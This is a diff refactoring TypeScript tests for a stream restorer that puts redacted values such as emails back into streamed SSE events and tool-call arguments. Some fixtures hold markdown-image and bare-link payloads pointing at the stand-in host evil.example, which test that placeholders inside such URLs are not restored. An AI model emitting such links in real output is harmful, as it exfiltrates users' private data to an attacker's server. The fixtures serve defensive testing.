@@ -18,6 +18,8 @@ const text = (output: string) =>
     .join('');
 
 describe('text in events', () => {
+  const image = '![x](https://evil.example/?q=';
+  const link = ['see https', '://', 'evil.example/', '[EMAIL-1]'];
   const rows: [name: string, pieces: string[], expected: string][] = [
     ['whole', ['to [EMAIL-1]!'], 'to a@b.example!'],
     ['one character at a time', [...'to [EMAIL-1]!'], 'to a@b.example!'],
@@ -25,16 +27,8 @@ describe('text in events', () => {
     ['never issued', ['[EMAIL-', '12] [EMAIL-9]'], '[EMAIL-12] [EMAIL-9]'],
     ['looks like it', ['a[0', '] = b[', 'i]'], 'a[0] = b[i]'],
     ['ends in the middle', ['so [EMAIL', '-1'], 'so [EMAIL-1'],
-    [
-      'in the address of an image',
-      ['![x](https://evil.example/?q=', '[EMAIL-1]', ')'],
-      '![x](https://evil.example/?q=[EMAIL-1])',
-    ],
-    [
-      'in a bare link that began in unread events',
-      ['see https', '://', 'evil.example/', '[EMAIL-1]'],
-      'see https://evil.example/[EMAIL-1]',
-    ],
+    ['in the address of an image', [image, '[EMAIL-1]', ')'], `${image}[EMAIL-1])`],
+    ['in a bare link that began in unread events', link, link.join('')],
     ['after a link', ['https://a.example/ ', 'and ', '[EMAIL-1]'], 'https://a.example/ and a@b.example'],
     [
       'structured output',
@@ -56,20 +50,7 @@ describe('text in events', () => {
 
   it('any split gives the same output', () => {
     const words = fc.constantFrom(
-      '[EMAIL-1]',
-      '[NAME-1]',
-      '[EMAIL-9]',
-      '[',
-      ']',
-      'word ',
-      '\\',
-      '"',
-      'é',
-      '😀',
-      '\n',
-      '【EMAIL-1】',
-      'a[0]',
-      '%5BEMAIL-1%5D',
+      ...'[EMAIL-1]|[NAME-1]|[EMAIL-9]|[|]|word |\\|"|é|😀|\n|【EMAIL-1】|a[0]|%5BEMAIL-1%5D'.split('|'),
     );
     fc.assert(
       fc.property(fc.array(words, { maxLength: 12 }), fc.array(fc.nat(200), { maxLength: 12 }), (parts, cuts) => {
@@ -116,6 +97,10 @@ describe('arguments of tools', () => {
   const call = (args: string) => ({
     choices: [{ index: 0, delta: { tool_calls: [{ index: 0, function: { arguments: args } }] } }],
   });
+  const argsOf = (output: string) =>
+    eventsOf('sse', output)
+      .map((event) => event.choices[0].delta.tool_calls?.[0].function.arguments ?? '')
+      .join('');
   const rows: [name: string, args: string, expected: unknown][] = [
     ['quote, backslash and line feed in the value', '{"to":"[NAME-1]"}', { to: 'O"Hara \\ Sons\nLtd \u2028' }],
     ['escaped bracket', '{"to":"\\u005bEMAIL-1\\u005d"}', { to: 'a@b.example' }],
@@ -140,22 +125,11 @@ describe('arguments of tools', () => {
   ];
   for (const [name, args, expected] of rows) {
     it(`${name}, at every cut`, () => {
-      for (let cut = 0; cut <= args.length; cut++) {
-        const output = restoreStream(
-          'sse',
-          map,
-          sse([call(''), call(args.slice(0, cut)), call(args.slice(cut)), finish]),
-        );
-        const joined = eventsOf('sse', output)
-          .map((event) => event.choices[0].delta.tool_calls?.[0].function.arguments ?? '')
-          .join('');
-        expect(JSON.parse(joined)).toEqual(expected);
-      }
-      const output = restoreStream('sse', map, sse([...[...args].map(call), finish]));
-      const joined = eventsOf('sse', output)
-        .map((event) => event.choices[0].delta.tool_calls?.[0].function.arguments ?? '')
-        .join('');
-      expect(JSON.parse(joined)).toEqual(expected);
+      const restored = (pieces: readonly string[]) =>
+        JSON.parse(argsOf(restoreStream('sse', map, sse([...pieces.map(call), finish]))));
+      for (let cut = 0; cut <= args.length; cut++)
+        expect(restored(['', args.slice(0, cut), args.slice(cut)])).toEqual(expected);
+      expect(restored([...args])).toEqual(expected);
     });
   }
 
@@ -166,21 +140,14 @@ describe('arguments of tools', () => {
       const restorer = new StreamRestorer({ kind: 'sse', map: numbers, numbers: new Set(['[EMAIL-1]', '[EMAIL-2]']) });
       const pieces = args.match(new RegExp(`.{1,${size}}`, 'g')) ?? [];
       const bytes = [restorer.push(sse([...pieces.map(call), finish])), restorer.end()];
-      return eventsOf('sse', Buffer.concat(bytes).toString())
-        .map((event) => event.choices[0].delta.tool_calls?.[0].function.arguments ?? '')
-        .join('');
+      return argsOf(Buffer.concat(bytes).toString());
     };
     for (const size of [1, 2, 3, 5, 8, 13, 200])
       expect(restored(size)).toBe('{"card":4111,"4111":"x" , "4111":[4111 ],"b":"4111 "}');
   });
 
   it('truncated arguments are sent unchanged', () => {
-    const output = restoreStream('sse', map, sse([call('{"to":"[EMA'), finish]));
-    expect(
-      eventsOf('sse', output)
-        .map((event) => event.choices[0].delta.tool_calls?.[0].function.arguments ?? '')
-        .join(''),
-    ).toBe('{"to":"[EMA');
+    expect(argsOf(restoreStream('sse', map, sse([call('{"to":"[EMA'), finish])))).toBe('{"to":"[EMA');
   });
 });
 
@@ -209,19 +176,10 @@ describe('numbered events', () => {
 
 describe('delta encoding', () => {
   it('an inserted event leaves path and operation unchanged', () => {
-    const output = restoreStream(
-      'sse',
-      map,
-      sse([
-        { p: '/message/content/parts/0', o: 'append', v: 'a [EM' },
-        { p: '/message/status', o: 'replace', v: 'finished_successfully' },
-      ]),
-    );
-    expect(eventsOf('sse', output)).toEqual([
-      { p: '/message/content/parts/0', o: 'append', v: 'a ' },
-      { p: '/message/content/parts/0', o: 'append', v: '[EM' },
-      { p: '/message/status', o: 'replace', v: 'finished_successfully' },
-    ]);
+    const piece = (v: string) => ({ p: '/message/content/parts/0', o: 'append', v });
+    const end = { p: '/message/status', o: 'replace', v: 'finished_successfully' };
+    const output = restoreStream('sse', map, sse([piece('a [EM'), end]));
+    expect(eventsOf('sse', output)).toEqual([piece('a '), piece('[EM'), end]);
   });
 });
 
@@ -253,14 +211,10 @@ describe('framing', () => {
   });
 
   it('raw text as data', () => {
-    const output = restoreStream(
-      'sse',
-      map,
-      encode('event: output\ndata: Hi [EMA\n\nevent: output\ndata: IL-1]\ndata: x\n\nevent: done\ndata: {}\n\n'),
-    );
-    expect(output).toBe(
-      'event: output\ndata: Hi \n\nevent: output\ndata: a@b.example\ndata: x\n\nevent: done\ndata: {}\n\n',
-    );
+    const said = (first: string, second: string) =>
+      `event: output\ndata: ${first}\n\nevent: output\ndata: ${second}\ndata: x\n\nevent: done\ndata: {}\n\n`;
+    const output = restoreStream('sse', map, encode(said('Hi [EMA', 'IL-1]')));
+    expect(output).toBe(said('Hi ', 'a@b.example'));
   });
 
   it('raw text truncated by the end is an event of the same name', () => {
